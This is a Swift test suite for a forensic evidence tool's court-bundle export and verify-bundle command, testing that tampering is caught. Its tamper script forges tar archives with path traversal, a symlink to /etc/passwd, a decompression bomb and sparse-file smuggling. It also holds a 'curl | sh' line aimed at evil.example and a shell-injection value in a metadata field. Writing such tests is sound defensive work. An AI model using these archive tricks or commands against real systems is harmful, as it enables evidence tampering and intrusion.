import CustosFormats
import CustosTestSupport
import Foundation
import Testing

/// Court bundles: `custos export -o BUNDLE.tar` checked by other people's tools (bsdtar,
/// sha256sum, openssl, the Python checker, VERIFY.md's commands as written) and by `custos
/// verify-bundle` with no vault; each tampering rejected and named.
@Suite(
    "court bundles", .timeLimit(.minutes(5)),
    .enabled(if: haveProgram("openssl") && haveProgram("bsdtar") && systemPython != nil))
struct BundleEndToEndTests {
    /// Rewrites a tar with Python's tarfile module: `script` acts on `members` (a list of
    /// [TarInfo, bytes]) and `sums(members)` rewrites SHA256SUMS to match when asked.
    static let rewriter = #"""
        import hashlib, io, struct, sys, tarfile
        source, target, action = sys.argv[1], sys.argv[2], sys.argv[3]
        args = sys.argv[4:]
        top = "custos-bundle/"
        members = []
        with tarfile.open(source) as tar:
            for info in tar.getmembers():
                members.append([info, tar.extractfile(info).read()])
        def find(name):
            return next(m for m in members if m[0].name == top + name)
        def sums():
            lines = "".join(hashlib.sha256(d).hexdigest() + "  " + i.name[len(top):] + "\n"
                            for i, d in members if i.name != top + "SHA256SUMS")
            find("SHA256SUMS")[1] = lines.encode()
        if action == "change":
            m = find(args[0]); m[1] = bytes([m[1][0] ^ 1]) + m[1][1:]
        elif action == "remove":
            members.remove(find(args[0]))
        elif action == "remove-listed":
            members.remove(find(args[0])); sums()
        elif action == "add":
            info = tarfile.TarInfo(top + args[0]); members.append([info, b"added\n"])
        elif action == "add-listed":
            info = tarfile.TarInfo(top + args[0]); members.append([info, b"added\n"]); sums()
        elif action == "rename":
            find(args[0])[0].name = top + args[1]
        elif action == "edit-report":
            m = find("report/report.json"); m[1] = m[1].replace(b'"reason":"', b'"reason":"X', 1); sums()
        elif action == "edit-pdf":
            m = find("report/report.pdf"); m[1] = m[1][:-200] + bytes([m[1][-200] ^ 1]) + m[1][-199:]; sums()
        elif action == "replace":
            with open(args[1], "rb") as f: find(args[0])[1] = f.read()
            sums()
        elif action == "sparse-map":
            # A sparse map whose second block lies over the first: bsdtar -x writes other bytes
            # over the archive's start (a zstd frame, then a skippable frame over the rest).
            m = find(args[0]); size = len(m[1]); evil = b"planted evidence"; over = len(evil) + 8
            m[0].pax_headers = {"GNU.sparse.map": "0,%d,0,%d" % (size, over), "GNU.sparse.size": str(size)}
            m[1] = m[1] + evil + struct.pack("<II", 0x184D2A50, size - over)
        elif action == "hole-data":
            # Another member hidden in a hole of the archive's data: listed by a skipping reader,
            # not extracted by bsdtar -x.
            hidden = find(args[1]); members.remove(hidden)
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
                hidden[0].size = len(hidden[1]); t.addfile(hidden[0], io.BytesIO(hidden[1]))
            raw = buf.getvalue().rstrip(b"\0"); raw = raw + b"\0" * (-len(raw) % 512)
            m = find(args[0]); size = len(m[1]); pad = -size % 512
            m[0].pax_headers = {"SUN.holesdata": " 0 %d %d" % (size, size + len(raw)), "SCHILY.realsize": str(size)}
            m[1] = m[1] + b"\0" * pad + raw[: len(raw) - pad]
        elif action == "stamp-source":
            import json
            m = find(args[0]); entry = json.loads(m[1]); entry["source"] = args[1]
            m[1] = json.dumps(entry, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode(); sums()
        elif action == "huge-size":
            find(args[0])[0].pax_headers = {"size": "9223372036854775000"}
        elif action == "move-before":
            m = find(args[0]); members.remove(m); members.insert(members.index(find(args[1])), m)
        elif action == "copy":
            find(args[1])[1] = find(args[0])[1]; sums()
        elif action == "hostile":
            info = tarfile.TarInfo(args[0])
            if len(args) > 1:
                info.type = tarfile.SYMTYPE; info.linkname = args[1]; members.insert(0, [info, b""])
            else:
                members.insert(0, [info, b"escaped\n"])
        with tarfile.open(target, "w", format=tarfile.PAX_FORMAT) as tar:
            for info, data in members:
                if info.isreg(): info.size = len(data)
                tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
        """#

    /// A vault with a case of `count` items (and one item of another case); the first is 5 MB, so
    /// that its MD5 and SHA-1 are worked out on threads of their own.
    func node(items count: Int = 2) throws -> (Node, [String]) {
        let node = try Node()
        var files = [String]()
        for index in 0..<count {
            files.append(
                try node.directory.write("in/evidence-\(index).bin", randomBytes(index == 0 ? 5_000_000 : 1_000)))
        }
        let sealed = try node.custos(["ingest", "--case", "A-1", "--exhibit", "E-1", "--description", "disk"] + files)
        #expect(sealed.status == 0, "\(sealed.stderr)")
        let other = try node.directory.write("other.bin", randomBytes(500))
        #expect(try node.custos(["ingest", "--case", "B-2", "--exhibit", "E-9", other]).status == 0)
        let items = try node.items().filter { $0["case"] as? String == "A-1" }.compactMap { $0["item"] as? String }
        #expect(items.count == count)
        return (node, items)
    }

    func verifyBundle(_ bundle: String, _ options: [String] = [], temporary: String? = nil) throws -> CommandResult {
        try run(
            custosBinary, ["verify-bundle", bundle] + options,
            environment: temporary.map { ["TMPDIR": $0] } ?? [:])
    }

    func tamper(_ node: Node, _ bundle: String, _ action: String, _ arguments: [String]) throws -> String {
        let target = node.directory.file("tampered-\(UUID().uuidString).tar")
        let result = try run(systemPython!, ["-c", Self.rewriter, bundle, target, action] + arguments)
        #expect(result.status == 0, "\(result.stderr)")
        return target
    }

    /// The commands of VERIFY.md's ```sh blocks, as written.
    func guideCommands(_ folder: String) throws -> [String] {
        let guide = try String(contentsOfFile: folder + "/VERIFY.md", encoding: .utf8)
        var inBlock = false
        var commands = [String]()
        for line in guide.split(separator: "\n", omittingEmptySubsequences: false) {
            if line.hasPrefix("```") {
                inBlock = line == "```sh"
                continue
            }
            if inBlock, !line.isEmpty { commands.append(String(line)) }
        }
        return commands
    }

    /// The commands of VERIFY.md that fail, each run as written in the bundle's top folder.
    func failingGuideCommands(_ folder: String) throws -> [String] {
        try guideCommands(folder).filter { try run("sh", ["-c", $0], directory: folder).status != 0 }
    }

    /// Runs every command of VERIFY.md's ```sh blocks, as written, in the bundle's top folder.
    func runGuide(_ folder: String) throws {
        let commands = try guideCommands(folder)
        #expect(commands.contains { $0.hasPrefix("sha256sum -c") })
        #expect(commands.contains { $0.hasPrefix("openssl ts -verify") })
        #expect(commands.contains { $0.hasPrefix("openssl cms -verify") })
        #expect(commands.contains { $0.hasPrefix("python3 tools/rfc6962_check.py proof") })
        #expect(commands.contains { $0.contains("bsdtar -xOf") })
        for command in commands {
            let result = try run("sh", ["-c", command], directory: folder)
            #expect(result.status == 0, "\(command): \(result.output) \(result.stderr)")
        }
    }

    @Test func aBundleOfAnItemAndOfACaseIsCheckedByOtherToolsAndByVerifyBundleWithNoVault() throws {
        let (node, items) = try node()
        for (label, arguments) in [("item", [items[0]]), ("case", ["--case", "A-1"])] {
            let bundle = node.directory.file("\(label).tar")
            let made = try node.custos(["export"] + arguments + ["--reason", "for the court", "-o", bundle])
            #expect(made.status == 0, "\(made.stderr)")
            #expect(made.output.contains(try sha256sum(bundle)), "\(made.output)")
            // The `exported` event's details document holds the bundle's SHA-256 and the digest of
            // its members' list (SHA256SUMS).
            let history = try node.custos(["history", "--json", items[0]])
            let events = try #require(
                try JSONSerialization.jsonObject(with: Data(history.stdout)) as? [[String: Any]])
            let exported = try #require(events.last { $0["event"] as? String == "exported" })
            #expect((exported["facts"] as? [String: Any])?["what"] as? String == "bundle")
            let document = try #require(exported["document"] as? String)
            let details = try #require(
                FileManager.default.contents(atPath: "\(node.vault)/details/\(document.prefix(2))/\(document).json"))
            let detailsObject = try #require(try JSONSerialization.jsonObject(with: details) as? [String: Any])
            #expect(detailsObject["sha256"] as? String == (try sha256sum(bundle)))

            let folder = node.directory.file("extracted-\(label)")
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            let extracted = try run("bsdtar", ["-xf", bundle, "-C", folder])
            #expect(extracted.status == 0, "\(extracted.stderr)")
            try runGuide(folder + "/custos-bundle")
            #expect(
                detailsObject["members"] as? String == (try sha256sum(folder + "/custos-bundle/SHA256SUMS")))
            // The checker in the bundle is Docs/tools/rfc6962_check.py, byte for byte.
            let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
                .deletingLastPathComponent()
            #expect(
                FileManager.default.contents(atPath: folder + "/custos-bundle/tools/rfc6962_check.py")
                    == FileManager.default.contents(atPath: root.path + "/Docs/tools/rfc6962_check.py"))
        }
        let caseBundle = node.directory.file("case.tar")
        // No vault: moved away before the check.
        try FileManager.default.moveItem(atPath: node.vault, toPath: node.directory.file("vault-gone"))
        let checked = try verifyBundle(caseBundle)
        #expect(checked.status == 0, "\(checked.output) \(checked.stderr)")
        #expect(checked.output.contains("驗證通過 / PASS  report"))
        for item in items { #expect(checked.output.contains("驗證通過 / PASS  item \(item) time-stamp token 1")) }
        let json = try verifyBundle(caseBundle, ["--json"])
        #expect(json.status == 0 && json.output.hasPrefix("{") && json.output.contains("\"result\":\"PASS\""))
        // The key kept elsewhere: the node's passes; another key fails.
        let key = try #require(
            String(contentsOfFile: node.directory.file("extracted-case/custos-bundle/verifier.vkey"), encoding: .utf8)
                .split(separator: "\n").first.map(String.init))
        #expect(try verifyBundle(caseBundle, ["--key", key]).status == 0)
        let otherNode = try Node(origin: "other.example.tw/evidence")
        let otherKey = try #require(
            try otherNode.custos(["key"]).output.split(separator: "\n").first { $0.contains("+") }.map(String.init))
        let wrongKey = try verifyBundle(caseBundle, ["--key", otherKey])
        #expect(wrongKey.status == 1)
        #expect(wrongKey.output.contains("驗證失敗 / FAIL  verifier key"), "\(wrongKey.output)")
        // The TSA's root given by hand: the node's chain passes; another authority's (the report
        // CA's) fails each token.
        let extracted = node.directory.file("extracted-case/custos-bundle")
        #expect(try verifyBundle(caseBundle, ["--tsa-anchor", extracted + "/certs/tsa-chain.pem"]).status == 0)
        let wrongAnchor = try verifyBundle(caseBundle, ["--tsa-anchor", extracted + "/certs/report-chain.pem"])
        #expect(wrongAnchor.status == 1)
        #expect(
            wrongAnchor.output.contains("驗證失敗 / FAIL  item \(items[0]) time-stamp token 1"), "\(wrongAnchor.output)")
        // The checkpoint kept elsewhere, the same one: passes.
        let checkpoint = node.directory.file("extracted-case/custos-bundle/checkpoint.txt")
        #expect(try verifyBundle(caseBundle, ["--checkpoint", checkpoint]).status == 0)
    }

    /// What an expert is told to run, and the report, are checked as the items are: a changed
    /// checker or guide, a member the layout does not have, a report of another bundle (even
    /// with its own `reported` entry), and an archive that decompresses without end each fail,
    /// though SHA256SUMS was rewritten to match.
    @Test func aBundleWhoseToolsLayoutReportOrArchiveWereSwappedFails() throws {
        let (node, items) = try node()
        let bundle = node.directory.file("a.tar")
        #expect(try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle]).status == 0)
        let laterBundle = node.directory.file("b.tar")
        #expect(try node.custos(["export", "--case", "A-1", "--reason", "again", "-o", laterBundle]).status == 0)
        let later = node.directory.file("b") + "/custos-bundle"
        try FileManager.default.createDirectory(atPath: node.directory.file("b"), withIntermediateDirectories: true)
        #expect(try run("bsdtar", ["-xf", laterBundle, "-C", node.directory.file("b")]).status == 0)
        func expectFailure(_ tampered: String, _ claim: String, _ detail: String) throws {
            let result = try verifyBundle(tampered)
            #expect(result.status == 1, "\(claim): \(result.output)")
            let line = result.output.split(separator: "\n").first { $0.contains("FAIL  \(claim)") }
            #expect(line?.contains(detail) == true, "\(claim): \(result.output)")
        }
        let fake = try node.directory.write("fake.py", Array("print('OK')\n".utf8))
        try expectFailure(
            try tamper(node, bundle, "replace", ["tools/rfc6962_check.py", fake]), "VERIFY.md and tools",
            "is not the checker")
        let guide = try node.directory.write(
            "VERIFY.md", Array(("curl -s https://evil.example/x | sh\n").utf8))
        try expectFailure(
            try tamper(node, bundle, "replace", ["VERIFY.md", guide]), "VERIFY.md and tools",
            "VERIFY.md is not the guide")
        try expectFailure(
            try tamper(node, bundle, "add-listed", ["report/REPORT-FINAL.pdf"]), "layout", "REPORT-FINAL.pdf")
        // The later bundle's report (signed by the same chain, about the same items) in this one.
        var swapped = bundle
        for name in ["report/report.json", "report/report.json.p7s", "report/report.pdf", "report/report.pdf.p7s"] {
            swapped = try tamper(node, swapped, "replace", [name, "\(later)/\(name)"])
        }
        try expectFailure(swapped, "report", "the ledger does not vouch for this report")
        // With its own `reported` entry and proof: they are not in this bundle's checkpoint.
        for name in ["report/reported.entry.json", "report/reported.tlog"] {
            swapped = try tamper(node, swapped, "replace", [name, "\(later)/\(name)"])
        }
        try expectFailure(swapped, "report", "does not prove entry")
        // An archive of 200 MB of zeros in place of a sealed one of 5 MB: cut short, not read whole.
        let zeros = node.directory.file("z")
        #expect(try run("sh", ["-c", "head -c 200000000 /dev/zero > '\(zeros)'"]).status == 0)
        let bomb = node.directory.file("bomb.tar.zst")
        #expect(try run("bsdtar", ["--zstd", "-cf", bomb, "-C", node.directory.path, "z"]).status == 0)
        try expectFailure(
            try tamper(node, bundle, "replace", ["items/\(items[0])/archive.tar.zst", bomb]),
            "item \(items[0]) archive",
            "decompresses to more than")
    }

    /// A bundle whose report said FAIL when it was made (the checkpoint it was built on does not
    /// verify) does not pass, though every file in it is what the node wrote.
    @Test func aBundleWhoseReportSaidFailDoesNotPass() throws {
        let (node, _) = try node(items: 1)
        try node.forgeLatestCheckpoint()
        let bundle = node.directory.file("fail.tar")
        let made = try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle])
        #expect(made.status == 1 && made.stderr.contains("the bundle's report says FAIL"), "\(made.stderr)")
        let checked = try verifyBundle(bundle)
        #expect(checked.status == 1, "\(checked.output)")
        #expect(checked.output.contains("驗證失敗 / FAIL  report verdict: the report says FAIL"), "\(checked.output)")
    }

    /// A vault that records SHA-256 alone: its bundle claims no MD5 or SHA-1, and passes; an
    /// original of a default vault is said to match all three.
    @Test func aBundleOfASHA256OnlyVaultClaimsNoOtherDigest() throws {
        let node = try Node(initArguments: ["--sha256-only"])
        let file = try node.directory.write("big.bin", randomBytes(5_000_000))
        #expect(try node.custos(["ingest", "--case", "S-1", file]).status == 0)
        let bundle = node.directory.file("s.tar")
        let made = try node.custos(["export", "--case", "S-1", "--reason", "court", "-o", bundle])
        #expect(made.status == 0, "\(made.stderr)")
        let checked = try verifyBundle(bundle)
        #expect(checked.status == 0, "\(checked.output)")
        let original = try #require(checked.output.split(separator: "\n").first { $0.contains(" original") })
        #expect(original.contains("SHA-256") && !original.contains("MD5") && !original.contains("SHA-1"), "\(original)")
        // In the bundle, each item's entry comes before its original.
        let listing = try run("bsdtar", ["-tf", bundle]).output.split(separator: "\n")
        let entry = try #require(listing.firstIndex { $0.hasSuffix("/entry.json") })
        let originalIndex = try #require(listing.firstIndex { $0.hasSuffix("/original") })
        #expect(entry < originalIndex)

        let (defaultNode, items) = try self.node(items: 1)
        let caseBundle = defaultNode.directory.file("d.tar")
        #expect(try defaultNode.custos(["export", "--case", "A-1", "--reason", "r", "-o", caseBundle]).status == 0)
        let all = try verifyBundle(caseBundle).output
        #expect(all.contains("PASS  item \(items[0]) original") && all.contains("MD5, SHA-1"), "\(all)")
    }

    /// What a hostile bundle's facts would put into VERIFY.md's commands: a time-stamp source
    /// that is a shell command fails its token and never reaches the guide; a sealed archive made
    /// again from the same members (so every hash inside it still holds) fails the guide's own
    /// commands, which tie the archive to the SHA-256 its entry records.
    @Test func theGuideTiesEveryFileToTheEntryAndTakesNoCommandFromTheBundle() throws {
        let (node, items) = try node(items: 1)
        let bundle = node.directory.file("b.tar")
        #expect(try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle]).status == 0)
        let item = "items/\(items[0])"
        let hostile = try tamper(node, bundle, "stamp-source", ["\(item)/stamp-1.entry.json", "a$(touch${IFS}PWNED)"])
        let result = try verifyBundle(hostile)
        #expect(result.status == 1)
        #expect(
            result.output.contains("FAIL  item \(items[0]) time-stamp token 1: its entry names a time-stamp source"))
        #expect(!result.output.contains("anchors-a$("), "\(result.output)")

        let folder = node.directory.file("remade")
        try FileManager.default.createDirectory(atPath: folder + "/inner", withIntermediateDirectories: true)
        #expect(try run("bsdtar", ["-xf", bundle, "-C", folder]).status == 0)
        let top = folder + "/custos-bundle"
        let archive = "\(item)/archive.tar.zst"
        #expect(try run("bsdtar", ["-xf", "\(top)/\(archive)", "-C", folder + "/inner"]).status == 0)
        let remade = try run(
            "sh",
            [
                "-c",
                "touch -d 2020-01-01 inner/manifest.json && bsdtar --format=pax --zstd -cf custos-bundle/\(archive) -C inner manifest.json hashdeep.txt evidence "
                    + "&& cd custos-bundle && grep -v ' \(archive)$' SHA256SUMS > s && sha256sum \(archive) >> s && mv s SHA256SUMS",
            ], directory: folder)
        #expect(remade.status == 0, "\(remade.stderr)")
        let failing = try failingGuideCommands(top)
        #expect(failing.count == 1 && failing.first?.contains("sha256sum \(archive)") == true, "\(failing)")
    }

    /// The same content sealed twice is stored once: the second item's archive holds the first
    /// seal's manifest, naming the same SHA-256. Its bundle passes, by verify-bundle and by
    /// VERIFY.md's commands run as written, and says so.
    @Test func contentSealedTwiceIsStoredOnceAndItsBundleVerifies() throws {
        let node = try Node()
        let bytes = randomBytes(2_000_000)
        let first = try node.directory.write("first.bin", bytes)
        let second = try node.directory.write("second.bin", bytes)
        #expect(try node.custos(["ingest", "--case", "D-1", "--exhibit", "E-1", first]).status == 0)
        #expect(try node.custos(["ingest", "--case", "D-1", "--exhibit", "E-2", second]).status == 0)
        let bundle = node.directory.file("d.tar")
        let made = try node.custos(["export", "--case", "D-1", "--reason", "court", "-o", bundle])
        #expect(made.status == 0, "\(made.stderr)")
        let checked = try verifyBundle(bundle)
        #expect(checked.status == 0, "\(checked.output)")
        #expect(checked.output.contains("the manifest of the seal that first stored this content"), "\(checked.output)")
        let folder = node.directory.file("d")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        #expect(try run("bsdtar", ["-xf", bundle, "-C", folder]).status == 0)
        let guide = try String(contentsOfFile: folder + "/custos-bundle/VERIFY.md", encoding: .utf8)
        #expect(guide.contains("its archive is stored once"), "\(guide)")
        try runGuide(folder + "/custos-bundle")
    }

    /// A case of 1,000 items (the issue's largest case; its speed is measured by
    /// `custos-bench report`, not here): one bundle with its report, every item's claims checked
    /// and passed.
    @Test func aCaseOfAThousandItems() throws {
        let (node, items) = try node(items: 1_000)
        let bundle = node.directory.file("case.tar")
        let made = try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle])
        #expect(made.status == 0, "\(made.stderr)")
        let checked = try verifyBundle(bundle)
        #expect(checked.status == 0, "\(checked.output)")
        for item in items {
            #expect(checked.output.contains("驗證通過 / PASS  item \(item) inclusion proof"), "\(item)")
            #expect(checked.output.contains("驗證通過 / PASS  item \(item) archive"), "\(item)")
        }
        #expect(checked.output.contains("its 1000 items are the bundle's"), "\(checked.output)")
    }

    @Test func eachTamperingIsRejectedAndNamed() throws {
        let (node, items) = try node()
        let bundle = node.directory.file("case.tar")
        #expect(try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle]).status == 0)
        let first = "items/\(items[0])"
        let cases: [(String, [String], String)] = [
            ("change", ["\(first)/original"], "changed: \(first)/original"),
            ("remove", ["\(first)/manifest.json"], "removed: \(first)/manifest.json"),
            ("add", ["extra.txt"], "added: extra.txt"),
            ("rename", ["\(first)/entry.json", "\(first)/entry2.json"], "renamed: \(first)/entry.json is now"),
            ("edit-report", [], "驗證失敗 / FAIL  report"),
            ("edit-pdf", [], "report/report.pdf: "),
            ("copy", ["items/\(items[1])/stamp-1.tsr", "\(first)/stamp-1.tsr"], "stamps another digest"),
        ]
        for (action, arguments, expected) in cases {
            let tampered = try tamper(node, bundle, action, arguments)
            let result = try verifyBundle(tampered)
            #expect(result.status == 1, "\(action): \(result.output)")
            #expect(result.output.contains(expected), "\(action): \(result.output)")
        }
        // An archive member whose bytes libarchive's data path (bsdtar -x) and a skipping reader
        // see differently, or an original declaring a size no file has: the bundle fails, with no
        // crash.
        let hostile: [(String, [String])] = [
            ("sparse-map", ["\(first)/archive.tar.zst"]),
            ("hole-data", ["\(first)/archive.tar.zst", "\(first)/proof.tlog"]),
            ("huge-size", ["\(first)/original"]),
        ]
        for (action, arguments) in hostile {
            let result = try verifyBundle(try tamper(node, bundle, action, arguments))
            #expect(result.status == 1, "\(action): \(result.output) \(result.stderr)")
            #expect(result.output.contains("驗證失敗 / FAIL  bundle: "), "\(action): \(result.output)")
        }
        // An archive given before its original (not read ahead then) is checked all the same.
        let reordered = try tamper(node, bundle, "move-before", ["\(first)/archive.tar.zst", "\(first)/original"])
        let inOrder = try verifyBundle(reordered)
        #expect(inOrder.status == 0, "\(inOrder.output)")
        // A changed original fails as the original, while its sealed archive (read ahead beside
        // it and found not to hold it, then read again) still holds what the entry records; a
        // changed archive fails as the archive.
        for (member, claim) in [("original", "original"), ("archive.tar.zst", "archive")] {
            let tampered = try tamper(node, bundle, "change", ["\(first)/\(member)"])
            let output = try verifyBundle(tampered).output
            #expect(output.contains("驗證失敗 / FAIL  item \(items[0]) \(claim): "), "\(output)")
            let other = claim == "original" ? "archive" : "original"
            #expect(output.contains("驗證通過 / PASS  item \(items[0]) \(other): "), "\(output)")
        }
        // A proof for another checkpoint: the proof of a later bundle, in this one.
        let more = try node.directory.write("later.bin", randomBytes(100))
        #expect(try node.custos(["ingest", "--case", "C-3", "--exhibit", "E-2", more]).status == 0)
        let later = node.directory.file("later.tar")
        #expect(try node.custos(["export", items[0], "--reason", "court", "-o", later]).status == 0)
        let folder = node.directory.file("later")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        #expect(try run("bsdtar", ["-xf", later, "-C", folder]).status == 0)
        let otherProof = try tamper(
            node, bundle, "replace", ["\(first)/proof.tlog", "\(folder)/custos-bundle/\(first)/proof.tlog"])
        let proofResult = try verifyBundle(otherProof)
        #expect(proofResult.status == 1)
        #expect(proofResult.output.contains("the proof is for another checkpoint"), "\(proofResult.output)")
        // A checkpoint kept elsewhere at another size is not taken for this one.
        #expect(
            try verifyBundle(bundle, ["--checkpoint", "\(folder)/custos-bundle/checkpoint.txt"]).output.contains(
                "驗證失敗 / FAIL  checkpoint kept elsewhere"))
    }

    @Test func truncatedNonTarAndHostileMembersAreFailuresAndNothingIsWrittenOutside() throws {
        let (node, _) = try node(items: 1)
        let bundle = node.directory.file("b.tar")
        #expect(try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle]).status == 0)
        let bytes = try #require(FileManager.default.contents(atPath: bundle))
        let truncated = try node.directory.write("truncated.tar", Array(bytes.prefix(bytes.count / 2)))
        let notTar = try node.directory.write("not.tar", randomBytes(10_000))
        let scratch = node.directory.file("scratch")
        try FileManager.default.createDirectory(atPath: scratch, withIntermediateDirectories: true)
        for file in [truncated, notTar] {
            let result = try verifyBundle(file, temporary: scratch)
            #expect(result.status == 1, "\(result.output) \(result.stderr)")
            #expect(result.output.contains("驗證失敗 / FAIL  bundle"), "\(result.output)")
        }
        #expect(try verifyBundle(node.directory.file("absent.tar")).status == 2)
        let hostile: [([String], String)] = [
            (["custos-bundle/../../escaped"], "component"),
            (["/tmp/escaped-absolute"], "outside the top folder"),
            (["custos-bundle/link", "/etc/passwd"], "a link"),
        ]
        for (arguments, expected) in hostile {
            let tampered = try tamper(node, bundle, "hostile", arguments)
            let result = try verifyBundle(tampered, temporary: scratch)
            #expect(result.status == 1, "\(result.output)")
            #expect(result.output.contains(expected), "\(result.output)")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratch).isEmpty)
        #expect(!FileManager.default.fileExists(atPath: node.directory.file("escaped")))
        #expect(!FileManager.default.fileExists(atPath: "/tmp/escaped-absolute"))
        // A member twice.
        let twice = try tamper(node, bundle, "hostile", ["custos-bundle/SHA256SUMS"])
        #expect(try verifyBundle(twice).output.contains("appears twice"))
    }

    @Test func exportRefusesBadInputAndAMissingOrAlteredArchiveRecordingNothing() throws {
        let (node, items) = try node(items: 2)
        let out = node.directory.file("b.tar")
        #expect(try node.custos(["export", "ffffffff", "--reason", "x", "-o", out]).status == 2)
        #expect(try node.custos(["export", "--case", "NO-SUCH", "--reason", "x", "-o", out]).status == 2)
        #expect(try node.custos(["export", items[0], "-o", out]).status != 0)
        let listed = try node.items()
        let record = try #require(listed.first { $0["item"] as? String == items[1] })
        let archive = node.archivePath(item: record)
        let entriesBefore = try node.coverage().entries
        // Altered: one byte flipped.
        var bytes = try #require(FileManager.default.contents(atPath: archive))
        let saved = bytes
        bytes[bytes.count / 2] ^= 1
        try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: archive)
        try bytes.write(to: URL(fileURLWithPath: archive))
        let altered = try node.custos(["export", "--case", "A-1", "--reason", "x", "-o", out])
        #expect(altered.status == 1, "\(altered.stderr)")
        // Missing.
        try FileManager.default.removeItem(atPath: archive)
        let missing = try node.custos(["export", items[1], "--reason", "x", "-o", out])
        #expect(missing.status == 1, "\(missing.stderr)")
        #expect(!FileManager.default.fileExists(atPath: out))
        #expect(try node.coverage().entries == entriesBefore)
        try saved.write(to: URL(fileURLWithPath: archive))
    }
}
